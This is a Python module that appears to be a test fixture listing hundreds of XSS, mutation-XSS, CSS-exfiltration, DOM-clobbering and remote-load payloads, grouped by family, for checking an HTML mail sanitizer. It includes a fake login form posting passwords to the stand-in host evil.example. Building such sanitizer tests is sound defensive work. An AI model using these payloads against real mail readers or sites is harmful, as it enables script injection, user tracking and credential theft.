"""Attacks on whoever shows a mail, by family: each tries to run something or to fetch something.

What runs calls `alert`; what fetches asks `http://evil.example`. The page around it is served by http://reader.example.
"""

EVIL = "http://evil.example/"

_SCRIPTS = r"""
<script>alert(1)</script>
<SCRIPT SRC=http://evil.example/x.js></SCRIPT>
<script src=//evil.example/x.js></script>
<script src="/relative.js"></script>
<script type=module src=http://evil.example/m.js></script>
<script async defer>alert(1)</script >
<script/x>alert(1)</script/x>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>alert(1)<!--</script>
<script><!-- </script> --><script>alert(1)</script>
<<script>alert(1);//<</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</div></div></div><script>alert(1)</script>
<xml><script>alert(1)</script></xml>
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<noembed><script>alert(1)</script></noembed>
<script>/*<div>*/alert(1)/*</div>*/</script>
"""

_EVENTS = (
    r"""
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)" alt="x">
<img/src=x/onerror=alert(1)>
<img src="x" OnErRoR = alert(1)>
<img src=cid:none onerror=alert(1)>
<img src="data:image/png;base64,AAAA" onerror=alert(1)>
<img src=x:x onerror&#61;alert(1) onerror=alert(1)>
<img """
    r'"'
    r"""><script>alert(1)</script>">
<img src=`x` onerror=alert(1)>
<img alt="`><img src=x onerror=alert(1)>">
<img title="&quot; onerror=alert(1) x=&quot;" src=x>
<img title='"><img src=x onerror=alert(1)>' src=x>
<img alt="</style><img src=x onerror=alert(1)>">
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body onhashchange=alert(1) onfocus=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<div onmouseover=alert(1) style="width:100%">move</div>
<div onclick=alert(1)>click</div>
<div onpointerrawupdate=alert(1) onpointerover=alert(1)>move</div>
<div onfocus=alert(1) tabindex=1 autofocus>focus</div>
<a href="#" onclick=alert(1)>click</a>
<details open ontoggle=alert(1)><summary>x</summary></details>
<details ontoggle=alert(1)><summary>x</summary>y</details>
<marquee onstart=alert(1)>x</marquee>
<video onerror=alert(1)><source></video>
<audio src=x onerror=alert(1)></audio>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)></select>
<button autofocus onfocus=alert(1)>x</button>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alert(1)>x</b>
<b style="transition:color 1s" ontransitionend=alert(1)>x</b>
<p oncontentvisibilityautostatechange=alert(1) style="display:block;content-visibility:auto">x</p>
<table background=x onload=alert(1)><tr><td onbeforecopy=alert(1)>x</table>
<font color="red" onmouseenter=alert(1)>x</font>
<br onwheel=alert(1)>
<hr size=1 onscrollend=alert(1)>
"""
)

_ADDRESSES = r"""
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
<a href="javascript://https://example.com/%0aalert(1)">x</a>
<a href="jav&#x0A;ascript&#x3A;alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="blob:http://reader.example/x">x</a>
<a href="filesystem:http://reader.example/x">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="/web/session/logout">x</a>
<a href="?logout=1">x</a>
<a href="//evil.example/x" ping="http://evil.example/ping">x</a>
<a href="https://evil.example/" target=_self download=x.exe ping=/ping>x</a>
<a xlink:href="javascript:alert(1)">x</a>
<area href="javascript:alert(1)"><map name=m><area shape=rect coords=0,0,999,999 href="javascript:alert(1)"></map>
<img usemap="#m" src=cid:x><map name=m><area shape=default href=javascript:alert(1)></map>
<img src="javascript:alert(1)">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<img src="data:image/png;base64,AAAA,http://evil.example/x">
<img dynsrc=http://evil.example/x lowsrc=http://evil.example/y>
<blockquote cite="javascript:alert(1)">x</blockquote>
<q cite="http://evil.example/cite">x</q>
<del cite="http://evil.example/cite">x</del>
<math href="javascript:alert(1)">x</math>
<table><td background="javascript:alert(1)">x</table>
<a href="https://good.example/" onclick="alert(1)" data-blocked-src="javascript:alert(1)">x</a>
"""

_FRAMES = r"""
<iframe src="javascript:alert(1)"></iframe>
<iframe src=http://evil.example/frame></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>
<iframe onload=alert(1)></iframe>
<frameset onload=alert(1)><frame src=http://evil.example/f></frameset>
<object data="http://evil.example/x.swf"></object>
<object data="data:text/html,<script>parent.alert(1)</script>"></object>
<object type=text/html data=/relative></object>
<object><param name=src value=http://evil.example/p><img src=http://evil.example/fallback></object>
<embed src="http://evil.example/e">
<embed src="javascript:alert(1)">
<applet code=x archive=http://evil.example/a.jar></applet>
<portal src=http://evil.example/portal></portal>
<fencedframe src=http://evil.example/></fencedframe>
<form action="javascript:alert(1)"><input type=submit autofocus></form>
<form action=http://evil.example/steal><input name=password type=password><button>Sign in</button></form>
<form id=f></form><button form=f formaction="javascript:alert(1)">x</button>
<input type=image src=http://evil.example/i formaction=javascript:alert(1)>
<isindex action="javascript:alert(1)" type=image>
<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(1)>y</div>
<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
"""

_HEAD = r"""
<meta http-equiv=refresh content="0;url=http://evil.example/refresh">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<META HTTP-EQUIV="Set-Cookie" CONTENT="a=b">
<meta http-equiv="Content-Security-Policy" content="report-uri http://evil.example/csp; default-src 'none'"><img src=x>
<base href="http://evil.example/"><img src="relative.png"><a href="x">x</a>
<base target="_top"><a href="http://evil.example/">x</a>
<link rel=stylesheet href=http://evil.example/style.css>
<link rel="stylesheet" href="/relative.css">
<link rel=prefetch href=http://evil.example/prefetch>
<link rel=preload as=image href=http://evil.example/preload>
<link rel=modulepreload href=http://evil.example/modulepreload>
<link rel=dns-prefetch href=//evil.example>
<link rel=preconnect href=http://evil.example>
<link rel=prerender href=http://evil.example/prerender>
<link rel=icon href=http://evil.example/icon>
<link rel=manifest href=http://evil.example/manifest>
<link rel=import href=http://evil.example/import>
<html manifest="http://evil.example/cache"><body>x</body></html>
<title><img src=x onerror=alert(1)></title>
<head><script>alert(1)</script><link rel=stylesheet href=http://evil.example/></head>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["/speculated"]}]}</script>
<script type=importmap>{"imports":{"x":"http://evil.example/"}}</script><script type=module>import "x"</script>
"""

_STYLES = r"""
<style>@import "http://evil.example/import.css";</style>
<style>@import url(http://evil.example/import.css);</style>
<style>body{background:url(http://evil.example/bg)}</style>
<style>@font-face{font-family:x;src:url(http://evil.example/font)}*{font-family:x}</style>
<style>*{cursor:url(http://evil.example/cursor),auto}</style>
<style>div::after{content:url(http://evil.example/after)}</style>
<style>@media print,screen{body{background:url(http://evil.example/media)}}</style>
<style></style><img src=x onerror=alert(1)></style>
<style><img src="</style><img src=x onerror=alert(1)>"></style>
<style><!--</style><img src=x onerror=alert(1)>--></style>
<div style="background:url(http://evil.example/bg)">x</div>
<div style="background:url('http://evil.example/bg')">x</div>
<div style='background:URL("//evil.example/bg")'>x</div>
<div style="background:url(/relative/bg.png)">x</div>
<div style="background-image:url( http://evil.example/a ),url(http://evil.example/b)">x</div>
<div style="background:\75\72\6c(http://evil.example/escaped)">x</div>
<div style="background:u\rl(http://evil.example/escaped)">x</div>
<div style="background:url(http://evil.example/unclosed">x</div>
<div style="background:u/**/rl(http://evil.example/a);background:url/**/(http://evil.example/b)">x</div>
<div style="/*;*/background:/*x*/url(http://evil.example/comment)">x</div>
<div style="background:&#117;&#114;&#108;(http://evil.example/entity)">x</div>
<div style="background-image:image-set('http://evil.example/set' 1x)">x</div>
<div style="background-image:-webkit-image-set(url(http://evil.example/set) 1x)">x</div>
<div style="background-image:cross-fade(url(http://evil.example/a),url(http://evil.example/b),50%)">x</div>
<div style="background:image(http://evil.example/image)">x</div>
<div style="background:element(#x);background:paint(x)">x</div>
<div style="background:src('http://evil.example/src')">x</div>
<div style="--x:url(http://evil.example/var);background:var(--x)">x</div>
<div style="background:var(--missing,url(http://evil.example/fallback))">x</div>
<div style="list-style-image:url(http://evil.example/list);display:list-item">x</div>
<ul><li style="list-style:url(http://evil.example/list)">x</ul>
<div style="border-image:url(http://evil.example/border) 30">x</div>
<div style="mask:url(http://evil.example/mask);-webkit-mask-image:url(http://evil.example/wmask)">x</div>
<div style="filter:url(http://evil.example/filter.svg#x);backdrop-filter:url(http://evil.example/f#x)">x</div>
<div style="clip-path:url(http://evil.example/clip#x);shape-outside:url(http://evil.example/shape)">x</div>
<div style="cursor:url(http://evil.example/cursor),auto">x</div>
<div style="content:url(http://evil.example/content)">x</div>
<div style="font-family:'x';src:url(http://evil.example/font)">x</div>
<div style="behavior:url(http://evil.example/x.htc);-moz-binding:url(http://evil.example/x.xml#x)">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="color:red;}body{background:url(http://evil.example/brace)}">x</div>
<div style='font-family:"</style><img src=x onerror=alert(1)>"'>x</div>
<div style="font-family:'\';background:url(http://evil.example/quote);x:\''">x</div>
<div style="background:url(&quot;http://evil.example/q&quot;);color:red">x</div>
<div style="background:url(data:image/svg+xml,%3Csvg/onload=alert(1)%3E)">x</div>
<div style="offset-path:url(http://evil.example/path);@import 'http://evil.example/i'">x</div>
<div style="background:url(https:evil.example/slashless)">x</div>
<div style="background:url(http:/\evil.example/slashes)">x</div>
<div style="position:fixed;inset:0;z-index:9999;background:#fff">covers the whole page</div>
<td style="background: url(http://evil.example/cell) no-repeat">x</td>
"""

_LOADS = r"""
<img src=http://evil.example/pixel>
<img src="https://evil.example/pixel" width=1 height=1>
<img src=//evil.example/pixel>
<img src=/web/image/1>
<img src=relative.png>
<img src="http:evil.example/x">
<img src="\\evil.example\x">
<img src="/\evil.example/x">
<img src="h&#10;ttp://evil.example/x">
<img src="&#x68;ttp://evil.example/x">
<img srcset="http://evil.example/1x 1x, http://evil.example/2x 2x">
<img src=cid:x srcset="http://evil.example/set 2x">
<img src=cid:x srcset="/relative 2x" sizes=1px>
<picture><source srcset=http://evil.example/picture><img src=cid:x></picture>
<picture><source media="(min-width:1px)" srcset="http://evil.example/picture"><img></picture>
<image src=http://evil.example/image>
<image href=http://evil.example/image>
<video poster=http://evil.example/poster></video>
<video src=http://evil.example/video autoplay></video>
<video autoplay><source src=http://evil.example/source><track default src=http://evil.example/track></video>
<audio src=http://evil.example/audio autoplay></audio>
<bgsound src=http://evil.example/sound>
<body background=http://evil.example/background>x</body>
<table background=http://evil.example/background><tr><td background=/relative>x</table>
<tr background="http://evil.example/row"><td>x</td></tr>
<div background=http://evil.example/x>x</div>
<img lazyload=1 loading=eager src=http://evil.example/x>
<img src=ftp://evil.example/x>
<img data-blocked-src="javascript:alert(1)" data-blocked-style="background:url(http://evil.example/x)" src=cid:x>
<input type=image src=http://evil.example/input>
<layer src=http://evil.example/layer></layer>
<v:rect><v:fill src="http://evil.example/vml"/></v:rect>
<!--[if mso]><img src=http://evil.example/mso><![endif]-->
<!--[if !mso]><!--><img src=http://evil.example/notmso><!--<![endif]-->
<xml><o:OfficeDocumentSettings><img src=http://evil.example/o></xml>
<a href=http://evil.example/><img src=http://evil.example/inside></a>
"""

_FOREIGN = r"""
<svg><script>alert(1)</script></svg>
<svg><script href=http://evil.example/x.js /></svg>
<svg><script xlink:href="data:,alert(1)" /></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><set attributeName=href to=javascript:alert(1)></set><a id=x><text y=20>x</text></a></svg>
<svg><image href=http://evil.example/svg></image></svg>
<svg><use href="http://evil.example/x.svg#x"></use></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(1)'/></svg>#x"></use></svg>
<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>
<svg><feImage href=http://evil.example/feimage></feImage></svg>
<svg><style>@import "http://evil.example/svg.css"</style></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style></p></svg>
<svg><title><style><img src=x onerror=alert(1)></style></title></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
<math><mi><style><img src=x onerror=alert(1)></style></mi></math>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>
<math><style><img src=x onerror=alert(1)></style></math>
<svg><xss><style>&lt;img src=x onerror=alert(1)&gt;</style></xss></svg>
<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
"""

_MUTATIONS = r"""
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noscript><img src=x onerror=alert(1)></noscript>
<noscript><style></noscript><img src=x onerror=alert(1)></style>
<template><script>alert(1)</script></template>
<template><img src=x onerror=alert(1)></template>
<template shadowrootmode=open><img src=x onerror=alert(1)><script>alert(1)</script></template>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>
<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>
<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><p title="</title><img src=x onerror=alert(1)>"></title>
<select><style></select><img src=x onerror=alert(1)></style>
<select><template><img src=x onerror=alert(1)></template></select>
<option><style></option></select><img src=x onerror=alert(1)></style>
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)>-->
<!-- <!-- --><img src=x onerror=alert(1)>-->
<!><img src=x onerror=alert(1)>
</><img src=x onerror=alert(1)>
<? ><img src=x onerror=alert(1)> ?>
<%<img src=x onerror=alert(1)>%>
<a title="<!--"></a><img src=x onerror=alert(1) title="-->">
<table><a><table><img src=x onerror=alert(1)></a></table></table>
<p><table><tr><svg><td><img src=x onerror=alert(1)>
<a<b onmouseover=alert(1)>x</a>
<img<svg onload=alert(1)>
<b/onclick=alert(1)/x>x</b>
&lt;img src=x onerror=alert(1)&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>
<input value="</input><img src=x onerror=alert(1)>">
<font face="'&quot;><img src=x onerror=alert(1)>">x</font>
<div title="` onmouseover=alert(1) `">x</div>
<ruby><rt><style></ruby><img src=x onerror=alert(1)></style>
"""

_CLOBBERING = r"""
<img name=cookie src=cid:x><img id=body name=body src=cid:x>
<a id=odoo href="https://evil.example/"></a><a id=odoo name=define href="cid:x">x</a>
<form id=document name=forms><input name=attributes><input id=parentNode name=innerHTML></form>
<img name=getElementById src=cid:x><img name=querySelector src=cid:x>
<div id=__proto__ name=constructor class="o_web_client modal o_dialog">x</div>
<a id=location href="javascript:alert(1)">x</a>
<div class="o_form_button_save btn" data-bs-toggle="modal" data-bs-target="#x" t-on-click="alert">x</div>
<div is=x-element slot=x part=x exportparts=x nonce=x itemprop=url contenteditable=true draggable=true>x</div>
<div role=button aria-label="Approve" accesskey=s tabindex=1 data-oe-model="res.users" data-oe-id=2>x</div>
<owl-component t-out="x" t-if="alert(1)"><t t-esc="alert(1)"/></owl-component>
"""

_TABLES = {
    "script": _SCRIPTS, "event": _EVENTS, "address": _ADDRESSES, "frame or form": _FRAMES, "head": _HEAD,
    "style": _STYLES, "load": _LOADS, "foreign": _FOREIGN, "mutation": _MUTATIONS, "clobbering": _CLOBBERING,
}  # fmt: skip

# What can't be written on one line.
_CRAFTED = {
    "address": (
        '<a href="\x01javascript:alert(1)">x</a>',
        '<a href="java\nscript:alert(1)">x</a>',
        '<a href="java\x00script:alert(1)">x</a>',
        '<img src="\nhttp://evil.example/break">',
        '<img src="\x00http://evil.example/nul">',
    ),
    "event": (
        "<img src=x\nonerror\n=\nalert(1)>",
        "<img src=x\x0conerror=alert(1)>",
        "<img\x00 src=x onerror=alert(1)>",
        "<img src=x \x00onerror=alert(1)>",
        "<im\x00g src=x onerror=alert(1)>",
        "<b " + "x" * 5000 + "=1 onclick=alert(1)>x</b>",
        "<div>" * 600 + "<img src=x onerror=alert(1)>",
    ),
    "script": ("<scr\x00ipt>alert(1)</scr\x00ipt>", "\ufeff<script>alert(1)</script>", "<script\n>alert(1)</script\n>"),
    "style": (
        '<div style="background:u\x00rl(http://evil.example/nul)">x</div>',
        '<div style="background:\nurl(\nhttp://evil.example/break\n)">x</div>',
        '<div style="' + "x:y;" * 3000 + 'background:url(http://evil.example/far)">x</div>',
        '<div style="background:\uff55\uff52\uff4c(http://evil.example/wide)">x</div>',
    ),
}


def attacks() -> list[tuple[str, str]]:
    """(family, HTML) of every attack."""
    lines = [(family, line) for family, table in _TABLES.items() for line in table.strip("\n").split("\n")]
    return lines + [(family, text) for family, texts in _CRAFTED.items() for text in texts]
